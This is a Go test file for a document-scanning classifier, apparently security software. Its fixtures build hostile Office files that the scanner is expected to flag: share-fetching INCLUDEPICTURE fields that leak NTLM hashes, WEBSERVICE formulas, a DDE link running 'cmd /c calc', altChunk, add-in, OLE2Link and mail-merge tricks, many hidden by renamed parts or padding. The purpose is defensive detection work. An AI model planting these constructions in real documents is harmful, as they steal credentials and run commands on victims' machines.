package filetype

import (
	"bytes"
	"strings"
	"testing"
)

const (
	ctWordMain  = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
	ctSheetMain = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
	nsWord      = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"`
	nsSheet     = `xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"`
)

// contentTypes is a [Content_Types].xml declaring decls (Default and
// Override elements).
func contentTypes(decls string) zent {
	return deflate("[Content_Types].xml", []byte(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>`+decls+`</Types>`))
}

// override is an Override element typing part as ct.
func override(part, ct string) string {
	return `<Override PartName="` + part + `" ContentType="` + ct + `"/>`
}

// rootRels is a _rels/.rels holding rels (Relationship elements).
func rootRels(rels string) zent {
	return deflate("_rels/.rels", []byte(`<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`+rels+`</Relationships>`))
}

// mainRel is the officeDocument relationship to target.
func mainRel(target string) string {
	return `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="` + target + `"/>`
}

// wordPart is a Word document part named name, its body holding body.
func wordPart(name, body string) zent {
	return deflate(name, []byte(`<?xml version="1.0"?><w:document `+nsWord+`><w:body>`+body+`</w:body></w:document>`))
}

// includePicture is a paragraph with a simple field fetching a picture
// from a share: Word hands the share the user's NTLM hash.
const includePicture = `<w:p><w:fldSimple w:instr=' INCLUDEPICTURE "\\192.0.2.1\s\a.png" \d '><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`

// TestOOXMLPartsByContentType: an OOXML package is read as Office reads
// it, by its main part (the officeDocument relationship in _rels/.rels)
// and each part's type in [Content_Types].xml, never by folder names: a
// Word field or a workbook formula that fetches from a share is found in
// a part of any name, and a package whose part types or main part
// cannot be told is not inspected. Before, a .docx whose main part was
// x/main.xml sniffed as a generic OOXML package that a rule keeping
// .docx kept, with no finding, and Word fetched the picture.
func TestOOXMLPartsByContentType(t *testing.T) {
	const probeFinding = "office: external reference includepicture field in x/main.xml"
	probe := zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/>`+override("/x/main.xml", ctWordMain)),
		rootRels(mainRel("x/main.xml")), wordPart("x/main.xml", includePicture))
	cases := []classifyCase{
		{name: "renamed main part", data: probe, filename: "a.docx",
			class: ClassOffice, sniffed: mimeDocx, findings: []string{probeFinding}},
		{name: "decoy word/document.xml, the main part elsewhere", filename: "a.docx",
			data: zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/>`+override("/word/document.xml", ctWordMain)+override("/x/main.xml", ctWordMain)),
				rootRels(mainRel("/x/main.xml")), wordPart("word/document.xml", `<w:p><w:r><w:t>議事録</w:t></w:r></w:p>`), wordPart("x/main.xml", includePicture)),
			class: ClassOffice, sniffed: mimeDocx, findings: []string{probeFinding}},
		{name: "main part typed by Default Extension=xml", filename: "a.docx",
			data: zipFile(t, contentTypes(`<Default Extension="XML" ContentType="`+ctWordMain+`"/>`),
				rootRels(mainRel("./doc/body.xml")), wordPart("Doc/Body.xml", includePicture)),
			class: ClassOffice, sniffed: mimeDocx, findings: []string{"office: external reference includepicture field in Doc/Body.xml"}},
		{name: "header typed as Word's under another extension", filename: "a.docx",
			data: zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/>`+override("/x/main.xml", ctWordMain)+
				override("/x/h.dat", "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml")),
				rootRels(mainRel("x/main.xml")), wordPart("x/main.xml", ""), wordPart("x/h.dat", includePicture)),
			class: ClassOffice, sniffed: mimeDocx, findings: []string{"office: external reference includepicture field in x/h.dat"}},
		{name: "UTF-16 header under another name", filename: "a.docx",
			data: zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/>`+override("/x/main.xml", ctWordMain)+
				override("/x/h.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml")),
				rootRels(mainRel("x/main.xml")), wordPart("x/main.xml", ""),
				deflate("x/h.xml", utf16LE(`<?xml version="1.0" encoding="UTF-16"?><w:hdr `+nsWord+`>`+includePicture+`</w:hdr>`))),
			class: ClassOffice, sniffed: mimeDocx, findings: []string{"office: external reference includepicture field in x/h.xml"}},
		{name: "untyped header after many blanks", filename: "a.docx",
			data: zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/>`+override("/word/document.xml", ctWordMain)),
				rootRels(mainRel("word/document.xml")), wordPart("word/document.xml", ""),
				deflate("h/h1.xml", []byte(strings.Repeat(" \r\n", 400)+`<w:hdr `+nsWord+`>`+includePicture+`</w:hdr>`))),
			class: ClassOffice, sniffed: mimeDocx, findings: []string{"office: external reference includepicture field in h/h1.xml"}},
		// Only a .rels part in a _rels folder is a relationship part
		// (OPC): another is a part like any, of its declared type.
		{name: "header named .rels", filename: "a.docx",
			data: zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/>`+override("/word/document.xml", ctWordMain)+
				override("/word/h.rels", "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml")),
				rootRels(mainRel("word/document.xml")), wordPart("word/document.xml", ""), wordPart("word/h.rels", includePicture)),
			class: ClassOffice, sniffed: mimeDocx, findings: []string{"office: external reference includepicture field in word/h.rels"}},
		{name: "sheet named .rels", filename: "a.xlsx",
			data: zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/>`+override("/xl/workbook.xml", ctSheetMain)+
				override("/xl/s.rels", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml")),
				rootRels(mainRel("xl/workbook.xml")), deflate("xl/workbook.xml", []byte(`<workbook `+nsSheet+`/>`)),
				deflate("xl/s.rels", []byte(`<worksheet `+nsSheet+`><sheetData>`+cellFormula(`_xlfn.WEBSERVICE("http://192.0.2.1/q")`)+`</sheetData></worksheet>`))),
			class: ClassOffice, sniffed: mimeXlsx, findings: []string{RunningFormula + " (WEBSERVICE) in xl/s.rels"}},
		// Excel finds a sheet by its relationship and type, not its
		// folder, as Word does its parts: one named as an external
		// link is read for its formulas too.
		{name: "sheet named as an external link", filename: "a.xlsx",
			data: zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/>`+override("/xl/workbook.xml", ctSheetMain)+
				override("/xl/externalLinks/s.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml")),
				rootRels(mainRel("xl/workbook.xml")), deflate("xl/workbook.xml", []byte(`<workbook `+nsSheet+`/>`)),
				deflate("xl/externalLinks/s.xml", []byte(`<worksheet `+nsSheet+`><sheetData>`+cellFormula(`_xlfn.WEBSERVICE("http://192.0.2.1/q")`)+`</sheetData></worksheet>`))),
			class: ClassOffice, sniffed: mimeXlsx, findings: []string{RunningFormula + " (WEBSERVICE) in xl/externalLinks/s.xml"}},
		// Real documents' parts that are no Word XML: custom XML in
		// UTF-16, an embedded Word file (a package, inspected as one).
		{name: "clean, a UTF-16 custom XML part and an embedded Word file", filename: "a.pptx",
			data: zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/><Default Extension="docx" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document"/>`+
				override("/slides/p.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml")),
				rootRels(mainRel("slides/p.xml")), deflate("slides/p.xml", []byte(`<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>`)),
				deflate("customXml/item1.xml", utf16LE(`<?xml version="1.0" encoding="UTF-16"?><b:Sources xmlns:b="http://schemas.openxmlformats.org/officeDocument/2006/bibliography"/>`)),
				deflate("slides/embeddings/a.docx", docx(t))),
			class: ClassOffice, sniffed: mimePptx, clean: true},
		{name: "clean Word document, UTF-16 custom XML, main part renamed", filename: "a.docx",
			data: zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/>`+override("/x/main.xml", ctWordMain)),
				rootRels(mainRel("x/main.xml")), wordPart("x/main.xml", `<w:p><w:r><w:t>議事録</w:t></w:r></w:p>`),
				deflate("customXml/item1.xml", utf16LE(`<?xml version="1.0" encoding="UTF-16"?><b:Sources xmlns:b="http://schemas.openxmlformats.org/officeDocument/2006/bibliography"/>`))),
			class: ClassOffice, sniffed: mimeDocx, clean: true},
		{name: "macro-enabled main part", filename: "a.docm",
			data: zipFile(t, contentTypes(`<Default Extension="x&#109;l" ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/>`),
				rootRels(mainRel("x/main.xml")), wordPart("x/main.xml", "")),
			class: ClassOffice, sniffed: mimeDocm, findings: []string{"office: macros"}},
		{name: "workbook with a renamed sheet holding WEBSERVICE", filename: "a.xlsx",
			data: zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/>`+override("/book/wb.xml", ctSheetMain)+
				override("/book/s/data.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml")),
				rootRels(mainRel("book/wb.xml")),
				deflate("book/wb.xml", []byte(`<workbook `+nsSheet+`><sheets><sheet name="S" sheetId="1"/></sheets></workbook>`)),
				deflate("book/s/data.xml", []byte(`<worksheet `+nsSheet+`><sheetData>`+cellFormula(`_xlfn.WEBSERVICE("http://192.0.2.1/q")`)+`</sheetData></worksheet>`))),
			class: ClassOffice, sniffed: mimeXlsx, findings: []string{RunningFormula + " (WEBSERVICE) in book/s/data.xml"}},
		{name: "clean workbook outside xl/", filename: "a.xlsx",
			data: zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/>`+override("/book/wb.xml", ctSheetMain)),
				rootRels(mainRel("book/wb.xml")),
				deflate("book/wb.xml", []byte(`<workbook `+nsSheet+`><sheets><sheet name="S" sheetId="1"/></sheets></workbook>`))),
			class: ClassOffice, sniffed: mimeXlsx, clean: true},
		{name: "external link to another program outside xl/", filename: "a.xlsx",
			data: zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/>`+override("/xl/workbook.xml", ctSheetMain)+override("/x/link.xml", ctExternalLink)),
				rootRels(mainRel("xl/workbook.xml")), deflate("xl/workbook.xml", []byte(`<workbook `+nsSheet+`/>`)),
				deflate("x/link.xml", []byte(`<externalLink `+nsSheet+`><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`))),
			class: ClassOffice, sniffed: mimeXlsx, findings: []string{"office: external reference ddelink in x/link.xml"}},
		{name: "ActiveX control outside activeX/", filename: "a.docx",
			data: zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/>`+override("/word/document.xml", ctWordMain)+override("/word/c/c1.xml", "application/vnd.ms-office.activeX+xml")),
				rootRels(mainRel("word/document.xml")), wordPart("word/document.xml", ""),
				deflate("word/c/c1.xml", []byte(`<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>`))),
			class: ClassOffice, sniffed: mimeDocx, findings: []string{"office: embedded or external content word/c/c1.xml"}},
		{name: "missing main part", filename: "a.docx",
			data:  zipFile(t, contentTypes(override("/word/document.xml", ctWordMain)), rootRels(mainRel("word/missing.xml")), wordPart("word/document.xml", "")),
			class: ClassOffice, findings: []string{OOXMLNoMainPart + ": _rels/.rels names word/missing.xml, which is not in the package"}},
		{name: "no officeDocument relationship", filename: "a.docx",
			data:  zipFile(t, contentTypes(override("/word/document.xml", ctWordMain)), rootRels(""), wordPart("word/document.xml", "")),
			class: ClassOffice, findings: []string{OOXMLNoMainPart + ": _rels/.rels: 0 officeDocument relationships"}},
		{name: "main part of no Office type", filename: "a.docx",
			data:  zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/>`), rootRels(mainRel("word/document.xml")), wordPart("word/document.xml", "")),
			class: ClassOffice, findings: []string{OOXMLNoMainPart + ": word/document.xml is application/xml"}},
		{name: "two main parts", filename: "a.docx",
			data: zipFile(t, contentTypes(`<Default Extension="xml" ContentType="`+ctWordMain+`"/>`),
				rootRels(mainRel("word/document.xml")+`<relationship Id="rId2" type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officedocument" Target="x/main.xml"/>`),
				wordPart("word/document.xml", ""), wordPart("x/main.xml", "")),
			class: ClassOffice, findings: []string{OOXMLNoMainPart + ": _rels/.rels: 2 officeDocument relationships"}},
		{name: "content types with a DTD", filename: "a.docx",
			data: zipFile(t, deflate("[Content_Types].xml", []byte(`<!DOCTYPE Types [<!ENTITY w "`+ctWordMain+`">]><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/x/main.xml" ContentType="&w;"/></Types>`)),
				rootRels(mainRel("x/main.xml")), wordPart("x/main.xml", includePicture)),
			class: ClassOffice, findings: []string{OOXMLTypesNotInspected + ": [Content_Types].xml: DTD"}},
		{name: "content types missing", filename: "a.docx",
			data:  zipFile(t, rootRels(mainRel("word/document.xml")), wordPart("word/document.xml", "")),
			class: ClassOffice, findings: []string{OOXMLTypesNotInspected + ": [Content_Types].xml: missing"}},
		{name: "content types in another namespace", filename: "a.docx",
			data: zipFile(t, deflate("[Content_Types].xml", []byte(`<Types xmlns="urn:x"><Override PartName="/word/document.xml" ContentType="`+ctWordMain+`"/></Types>`)),
				rootRels(mainRel("word/document.xml")), wordPart("word/document.xml", "")),
			class: ClassOffice, findings: []string{OOXMLTypesNotInspected + ": [Content_Types].xml: element Types in another namespace"}},
		{name: "a part typed twice", filename: "a.docx",
			data: zipFile(t, contentTypes(override("/word/document.xml", ctWordMain)+override("/WORD/document.xml", "application/xml")),
				rootRels(mainRel("word/document.xml")), wordPart("word/document.xml", "")),
			class: ClassOffice, findings: []string{OOXMLTypesNotInspected + ": [Content_Types].xml: Override word/document.xml twice"}},
		{name: "no _rels/.rels, main parts of two kinds", filename: "a.docx",
			data: zipFile(t, contentTypes(override("/word/document.xml", ctWordMain)+override("/xl/workbook.xml", ctSheetMain)),
				wordPart("word/document.xml", ""), deflate("xl/workbook.xml", []byte(`<workbook `+nsSheet+`/>`))),
			class: ClassOffice, findings: []string{OOXMLNoMainPart + ": no _rels/.rels, and 2 kinds of main part"}},
	}
	runClassify(t, cases)
}

// TestFieldMarksAcrossReads: a mark cut by the boundary of two reads is
// found; a part without one is not parsed, nor read past its start when
// it does not start as XML and is not typed as Word's.
func TestFieldMarksAcrossReads(t *testing.T) {
	for _, mark := range []string{"<w:instrText>", `w:instr="`, "<w:fldChar ", "<!DOCTYPE", "\x00"} {
		for at := 32<<10 - 8; at < 32<<10+24; at++ {
			part := "<w>" + strings.Repeat(" ", at-3) + mark + "</w>"
			n, marked, err := scanMarks(strings.NewReader(part), false, hasFieldMark)
			if !marked || err != nil || n != int64(len(part)) {
				t.Fatalf("%q at %d: marked %v, %d bytes, %v", mark, at, marked, n, err)
			}
		}
	}
	picture := "\x89PNG " + strings.Repeat("w:instr ", 10<<10)
	for _, tt := range []struct {
		part     string
		declared bool
		marked   bool
		n        int // bytes read; -1: all
	}{
		{`<w:styles><w:style w:styleId="Instruction"/></w:styles>`, false, true, -1},
		{`<w:styles><w:style w:styleId="a"/><w:t>fld</w:t></w:styles>`, false, false, -1},
		{picture, false, false, 32<<10 + 16},
		{picture, true, true, -1},
		{strings.Repeat(" ", 40<<10) + "<w:hdr><w:instrText/>", false, true, -1},
		{"", false, false, 0},
	} {
		if tt.n < 0 {
			tt.n = len(tt.part)
		}
		n, marked, err := scanMarks(strings.NewReader(tt.part), tt.declared, hasFieldMark)
		if marked != tt.marked || int(n) != tt.n || err != nil {
			t.Errorf("%.30q (declared %v): marked %v, %d bytes, %v; want %v, %d bytes", tt.part, tt.declared, marked, n, err, tt.marked, tt.n)
		}
	}
}

// BenchmarkClassifyDocx: a Word document shaped as Word writes one, its
// styles (two parts of some 400 KiB, no field in them) larger than its
// text, with a picture.
func BenchmarkClassifyDocx(b *testing.B) {
	var styles bytes.Buffer
	styles.WriteString(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:styles ` + nsWord + `>`)
	for i := 0; styles.Len() < 400<<10; i++ {
		styles.WriteString(`<w:style w:type="paragraph" w:styleId="s` + strings.Repeat("x", i%7) + `"><w:name w:val="heading"/><w:basedOn w:val="Normal"/><w:pPr><w:spacing w:before="240" w:after="60"/></w:pPr><w:rPr><w:rFonts w:asciiTheme="majorHAnsi" w:eastAsiaTheme="majorEastAsia"/><w:sz w:val="32"/></w:rPr></w:style>`)
	}
	styles.WriteString(`</w:styles>`)
	var text strings.Builder
	for i := 0; i < 200; i++ {
		text.WriteString(`<w:p><w:r><w:t>会議は3時からです。議題は予算と人事です。</w:t></w:r></w:p>`)
	}
	text.WriteString(`<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>`)
	data := zipFile(b, contentTypes(`<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>`+override("/word/document.xml", ctWordMain)),
		rootRels(mainRel("word/document.xml")), wordPart("word/document.xml", text.String()), deflate("word/styles.xml", styles.Bytes()),
		deflate("word/stylesWithEffects.xml", styles.Bytes()), stored("word/media/image1.png", pngImage(b)))
	benchClassify(b, data, "", "a.docx", ClassOffice)
}

// docRels is word/_rels/document.xml.rels holding rels.
func docRels(rels string) zent {
	return deflate("word/_rels/document.xml.rels", []byte(`<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`+rels+`</Relationships>`))
}

// TestOOXMLImportedChunks: a Word document that imports a chunk in
// another format (w:altChunk: HTML, MHT, RTF) is not inspected, as Word
// converts the chunk as the document opens, fetching an HTML chunk's
// pictures from where they say and keeping an RTF chunk's fields. Before,
// a .docx whose HTML chunk drew a picture from a share, or whose RTF
// chunk held an INCLUDEPICTURE field to one, had no finding (red team).
func TestOOXMLImportedChunks(t *testing.T) {
	const (
		chunkRel = `<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="afchunk.htm"/>`
		body     = `<w:p><w:r><w:t>案内</w:t></w:r></w:p><w:altChunk xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId9"/>`
		html     = `<html><body><p>案内</p><img src="\\192.0.2.1\s\a.png"></body></html>`
		rtf      = `{\rtf1\ansi {\field{\*\fldinst INCLUDEPICTURE "\\\\192.0.2.1\\s\\a.png" \\d}{\fldrslt x}}}`
	)
	types := func(ext, ct string) zent {
		return contentTypes(`<Default Extension="xml" ContentType="application/xml"/><Default Extension="` + ext + `" ContentType="` + ct + `"/>` + override("/word/document.xml", ctWordMain))
	}
	cases := []classifyCase{
		{name: "HTML chunk drawing a picture from a share", filename: "a.docx",
			data: zipFile(t, types("htm", "text/html"), rootRels(mainRel("word/document.xml")), wordPart("word/document.xml", body),
				docRels(chunkRel), deflate("word/afchunk.htm", []byte(html))),
			class: ClassOffice, sniffed: mimeDocx, findings: []string{OOXMLAltChunk + " in word/_rels/document.xml.rels", OOXMLAltChunk + " word/afchunk.htm"}},
		{name: "RTF chunk with INCLUDEPICTURE, strict relationship type", filename: "a.docx",
			data: zipFile(t, types("rtf", "application/rtf"), rootRels(mainRel("word/document.xml")), wordPart("word/document.xml", body),
				docRels(strings.NewReplacer("http://schemas.openxmlformats.org/officeDocument/2006/relationships/", "http://purl.oclc.org/ooxml/officeDocument/relationships/", "afchunk.htm", "c.rtf").Replace(chunkRel)),
				deflate("word/c.rtf", []byte(rtf))),
			class: ClassOffice, sniffed: mimeDocx, findings: []string{OOXMLAltChunk + " in word/_rels/document.xml.rels", OOXMLAltChunk + " word/c.rtf"}},
		{name: "MHT chunk under another relationship type", filename: "a.docx",
			data: zipFile(t, types("dat", "message/rfc822"), rootRels(mainRel("word/document.xml")), wordPart("word/document.xml", body),
				docRels(strings.Replace(strings.Replace(chunkRel, "aFChunk", "image", 1), "afchunk.htm", "c.dat", 1)),
				deflate("word/c.dat", []byte("MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n"+html))),
			class: ClassOffice, sniffed: mimeDocx, findings: []string{OOXMLAltChunk + " word/c.dat"}},
		{name: "clean, a picture and a web link", filename: "a.docx",
			data: zipFile(t, types("png", "image/png"), rootRels(mainRel("word/document.xml")), wordPart("word/document.xml", `<w:p><w:r><w:t>案内</w:t></w:r></w:p>`),
				docRels(`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/a.png"/>`),
				deflate("word/media/a.png", pngImage(t))),
			class: ClassOffice, sniffed: mimeDocx, clean: true},
	}
	runClassify(t, cases)
}

// webExtension is an Office web add-in part: a store add-in (an ID in
// AppSource, or a catalog on a share) with the settings it is given.
const webExtension = `<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" id="{52811C31-4593-43B8-A697-EB873422D156}"><we:reference id="wa104380862" version="1.0.0.0" store="\\192.0.2.1\catalog" storeType="FileSystem"/><we:properties><we:property name="url" value="&quot;https://192.0.2.1/&quot;"/></we:properties></we:webextension>`

// TestOOXMLWebAddIns: a document bound to an Office web add-in is not
// kept, whatever the part's name: Office loads the add-in from its
// store into a task pane (or, in a workbook, onto the sheet) as the
// document opens, and the add-in runs its script with the settings the
// document gives it. Before, none of these had a finding (red team).
func TestOOXMLWebAddIns(t *testing.T) {
	const taskpanes = `<wetp:taskpanes xmlns:wetp="http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11"><wetp:taskpane dockstate="right" visibility="1" width="350" row="1"><wetp:webextensionref xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></wetp:taskpane></wetp:taskpanes>`
	cases := []classifyCase{
		{name: "task pane opening with a Word document", filename: "a.docx",
			data:  docx(t, deflate("word/webextensions/taskpanes.xml", []byte(taskpanes)), deflate("word/webextensions/webextension1.xml", []byte(webExtension))),
			class: ClassOffice, sniffed: mimeDocx, findings: []string{"office: embedded or external content word/webextensions/taskpanes.xml (web add-in)"}},
		{name: "add-in under another name, typed as one", filename: "a.xlsx",
			data: zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/>`+override("/xl/workbook.xml", ctSheetMain)+
				override("/xl/x/e1.xml", "application/vnd.ms-office.webextension+xml")),
				rootRels(mainRel("xl/workbook.xml")), deflate("xl/workbook.xml", []byte(`<workbook `+nsSheet+`/>`)), deflate("xl/x/e1.xml", []byte(webExtension))),
			class: ClassOffice, sniffed: mimeXlsx, findings: []string{"office: embedded or external content xl/x/e1.xml (web add-in)"}},
		// By its relationship alone: the part under another name,
		// typed as plain XML (review).
		{name: "task pane by its relationship only", filename: "a.docx",
			data: docx(t, docRels(`<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes" Target="../x/t.xml"/>`),
				deflate("x/t.xml", []byte(taskpanes))),
			class: ClassOffice, sniffed: mimeDocx, findings: []string{"office: embedded or external content (web add-in) in word/_rels/document.xml.rels"}},
	}
	runClassify(t, cases)
}

// TestLinkedOLEObject: an OLE object that is a link (class StdOleLink,
// CVE-2017-0199's OLE2Link) embedded in a document is a reference to
// what its moniker names, fetched when it updates or is activated (a
// slide's animation activates an object without a click): the
// presentation is not kept. Before, an oleObject1.bin that was not a
// package had no finding (red team).
func TestLinkedOLEObject(t *testing.T) {
	// A .doc's object pool holds each object as a storage of its own
	// class: the second entry's CLSID is set by hand.
	pool := oleFile(clsidWord, oleEnt{"WordDocument", 2}, oleEnt{"_1234", 1}, oleEnt{"\x01Ole", 2})
	copy(pool[1024+128*2+0x50:], clsidOleLink)
	pptx := func(ents ...zent) []byte {
		return zipFile(t, append([]zent{contentTypes(`<Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>` +
			override("/ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml")),
			rootRels(mainRel("ppt/presentation.xml")), deflate("ppt/presentation.xml", []byte(`<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>`))}, ents...)...)
	}
	cases := []classifyCase{
		{name: "OLE2Link in a presentation", filename: "a.pptx",
			data:  pptx(deflate("ppt/embeddings/oleObject1.bin", oleFile(clsidOleLink, oleEnt{"\x01Ole", 2}, oleEnt{"\x01CompObj", 2}))),
			class: ClassOffice, sniffed: mimePptx, findings: []string{OLELinkObject + " ppt/embeddings/oleObject1.bin"}},
		{name: "a linked object in an embedded Word 97 document", filename: "a.pptx",
			data:  pptx(deflate("ppt/embeddings/oleObject1.bin", pool)),
			class: ClassOffice, sniffed: mimePptx, findings: []string{OLELinkObject + " ppt/embeddings/oleObject1.bin"}},
		{name: "clean, an embedded Word 97 document", filename: "a.pptx",
			data:  pptx(deflate("ppt/embeddings/oleObject1.bin", cfbFile(clsidWord, append(docStreams(docSpec{pieces: []docText{{text: "\x13 PAGE \x14" + "1\x15"}}, big: true}), cfbEnt{name: "\x01Ole", typ: 2, data: oleStreamOf(0)})...))),
			class: ClassOffice, sniffed: mimePptx, clean: true},
	}
	runClassify(t, cases)
}

// TestWordMailMergeSource: a Word document set up as a mail merge main
// document with a data source is not kept: Word opens the source as the
// document opens, once the user accepts running its query (the dialog's
// default), so a workbook on a share hands over the NTLM hash. The
// source is named in the settings part's attributes, not in a
// relationship or a field; before, it had no finding (red team).
func TestWordMailMergeSource(t *testing.T) {
	const (
		nsW   = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"`
		merge = `<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/><w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\192.0.2.1\s\名簿.xlsx;Mode=Read"/><w:query w:val="SELECT * FROM ` + "`" + `Sheet1$` + "`" + `"/></w:mailMerge>`
	)
	settings := func(name, body string) zent {
		return deflate(name, []byte(`<?xml version="1.0"?><w:settings `+nsW+`><w:zoom w:percent="100"/>`+body+`<w:rsids><w:rsidRoot w:val="00A1"/></w:rsids></w:settings>`))
	}
	cases := []classifyCase{
		{name: "connection string and query to a workbook on a share", filename: "a.docx",
			data:  docx(t, settings("word/settings.xml", merge)),
			class: ClassOffice, sniffed: mimeDocx, findings: []string{MailMergeSource + " in word/settings.xml"}},
		{name: "Office data source object, UTF-16", filename: "a.docx",
			data:  docx(t, deflate("word/settings.xml", utf16LE(`<?xml version="1.0" encoding="UTF-16"?><w:settings `+nsW+`><w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:odso><w:udl w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\192.0.2.1\s\a.accdb"/></w:odso></w:mailMerge></w:settings>`))),
			class: ClassOffice, sniffed: mimeDocx, findings: []string{MailMergeSource + " in word/settings.xml"}},
		{name: "settings under another name, typed as settings", filename: "a.docx",
			data: zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/>`+override("/word/document.xml", ctWordMain)+override("/word/conf.xml", ctWordSettings)),
				rootRels(mainRel("word/document.xml")), wordPart("word/document.xml", ""), settings("word/conf.xml", merge)),
			class: ClassOffice, sniffed: mimeDocx, findings: []string{MailMergeSource + " in word/conf.xml"}},
		{name: "clean, a main document type without a source", filename: "a.docx",
			data:  docx(t, settings("word/settings.xml", `<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="textFile"/></w:mailMerge><w:docVars><w:docVar w:name="query" w:val="x"/></w:docVars>`)),
			class: ClassOffice, sniffed: mimeDocx, clean: true},
	}
	runClassify(t, cases)
}

// TestOLEEmbeddedPackage: an OOXML document embedded as an OLE object (a
// compound file with a "Package" stream) is not inspected, so not kept:
// Word, Excel or PowerPoint opens it when the object is activated (a
// slide's animation does so without a click), and what it holds, an
// INCLUDEPICTURE from a share, say, is not read here. Before, wrapped
// as a presentation's oleObject1.bin, it had no finding (red team).
func TestOLEEmbeddedPackage(t *testing.T) {
	wrapped := oleFile(make([]byte, 16), oleEnt{"\x01Ole", 2}, oleEnt{"\x01CompObj", 2}, oleEnt{"Package", 2})
	cases := []classifyCase{
		{name: "a Word document wrapped as a presentation's OLE object", filename: "a.pptx",
			data: zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>`+
				override("/ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml")),
				rootRels(mainRel("ppt/presentation.xml")), deflate("ppt/presentation.xml", []byte(`<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>`)),
				deflate("ppt/embeddings/oleObject1.bin", wrapped)),
			class: ClassOffice, sniffed: mimePptx, findings: []string{OLEPackageNotInspected + " ppt/embeddings/oleObject1.bin"}},
		{name: "an OpenDocument object as LibreOffice embeds one", filename: "a.docx",
			data:  docx(t, deflate("word/embeddings/oleObject1.bin", oleFile(make([]byte, 16), oleEnt{"\x01CompObj", 2}, oleEnt{"\x01Ole", 2}, oleEnt{"package_stream", 2}))),
			class: ClassOffice, sniffed: mimeDocx, findings: []string{OLEPackageNotInspected + " word/embeddings/oleObject1.bin"}},
		{name: "a Word 97 document with one in its object pool", filename: "a.doc",
			data:  oleFile(clsidWord, oleEnt{"WordDocument", 2}, oleEnt{"ObjectPool", 1}, oleEnt{"_1234", 1}, oleEnt{"Package", 2}),
			class: ClassOffice, sniffed: "application/msword", findings: []string{OLEPackageNotInspected}},
	}
	runClassify(t, cases)
}

// TestOOXMLSVGPictures: an SVG picture in an OOXML document, told by its
// content whatever its name and type, is read as an OpenDocument file's
